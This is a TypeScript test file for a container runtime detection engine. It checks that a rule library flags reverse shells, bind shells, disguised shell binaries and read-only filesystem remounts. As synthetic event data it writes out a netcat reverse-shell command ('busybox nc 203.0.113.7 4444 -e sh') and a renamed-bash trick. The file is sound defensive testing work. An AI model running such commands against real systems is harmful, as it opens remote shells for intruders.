import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileRuleSet } from '../../../../rules/compiler/index.js';
import type { VigilEvent } from '../../../../rules/event.js';
import { fieldExists } from '../../../../rules/fields/index.js';
import { loadRuleTexts } from '../../../../rules/load.js';
import { engineWith } from '../compiler/helpers.js';

const dir = join(import.meta.dirname, '..', '..', '..', '..', 'rules', 'library');
const files = readdirSync(dir)
  .filter((f) => f.endsWith('.yaml'))
  .sort()
  .map((f) => ({ path: join(dir, f), text: readFileSync(join(dir, f), 'utf8') }));

describe('the default rule library', () => {
  const load = loadRuleTexts(files, { fieldExists });
  const { ruleSet, issues } = compileRuleSet(load);

  it('loads and compiles with every rule active', () => {
    expect(load.errors).toEqual([]);
    expect(load.warnings.filter((w) => /cannot provide field/.test(w.message))).toEqual([]);
    expect(issues).toEqual([]);
    expect(ruleSet.summary.filter((s) => s.state !== 'active')).toEqual([]);
    expect(ruleSet.rules.length).toBeGreaterThan(10);
  });

  it('tells shells by executable identity and applet, and a bind shell from a reverse one', () => {
    const { engine, alerts } = engineWith(ruleSet);
    const container = { id: 'c1' };
    const fd = { type: 'ipv4', lip: '10.0.0.5', lport: 40100, rip: '203.0.113.7', rport: 4444, name: 'a->b', direction: 'out' } as const;
    // A copy of bash saved as kworker: a shell by what it is.
    engine.process({ type: 'dup', source: 'syscall', timeMs: 1, rawres: 1, container, proc: { pid: 5, name: 'kworker', exeClass: 'shell', program: 'bash' }, fd });
    // The same connection accepted on port 4444: a bind shell, not a reverse one.
    engine.process({
      type: 'dup',
      source: 'syscall',
      timeMs: 2,
      rawres: 1,
      container,
      proc: { pid: 6, name: 'sh', exeClass: 'shell', program: 'sh' },
      fd: { ...fd, lport: 4444, rport: 40100, name: 'c->d', direction: 'in' },
    });
    // busybox nc -e sh, run by busybox's own name.
    engine.process({
      type: 'execve',
      source: 'syscall',
      timeMs: 3,
      container,
      proc: { pid: 7, name: 'busybox', exe: 'busybox', args: ['nc', '203.0.113.7', '4444', '-e', 'sh'], exeClass: 'network_tool', program: 'nc' },
    });
    // A look-alike: a renamed program that is nothing known.
    engine.process({ type: 'dup', source: 'syscall', timeMs: 4, rawres: 1, container, proc: { pid: 8, name: 'kworker' }, fd: { ...fd, name: 'e->f' } });
    expect(alerts.map((a) => `${a.rule}/${a.priority}`)).toEqual(['Reverse Shell/Critical', 'Bind Shell/Critical', 'Netcat Remote Code Execution in Container/Warning']);
    expect(alerts[1]!.output).toContain('serves listening port 4444');
  });

  it('raises the reverse-shell and read-only alerts through the new fields', () => {
    const { engine, alerts } = engineWith(ruleSet);
    const dup: VigilEvent = {
      type: 'dup',
      source: 'syscall',
      timeMs: 1,
      rawres: 1,
      proc: { pid: 5, name: 'sh' },
      fd: { type: 'ipv4', rip: '203.0.113.7', rport: 4444, name: 'a->b', direction: 'out', relayPid: 4, relayName: 'nc' },
    };
    engine.process(dup);
    engine.process({ type: 'metric', source: 'metrics', timeMs: 2, metric: { subject: 'filesystem', values: { 'fs.became_readonly': 1, 'fs.readonly': 1 }, labels: { mountpoint: '/data' } } });
    engine.process({ type: 'metric', source: 'metrics', timeMs: 3, metric: { subject: 'filesystem', values: { 'fs.became_readonly': 0, 'fs.readonly': 1 }, labels: { mountpoint: '/ro' } } });
    expect(alerts.map((a) => a.rule)).toEqual(['Reverse Shell', 'Filesystem Remounted Read-Only']);
    expect(alerts[0]!.output_fields).toMatchObject({ 'fd.direction': 'out', 'fd.relay.name': 'nc', 'fd.relay.pid': 4 });
  });
});
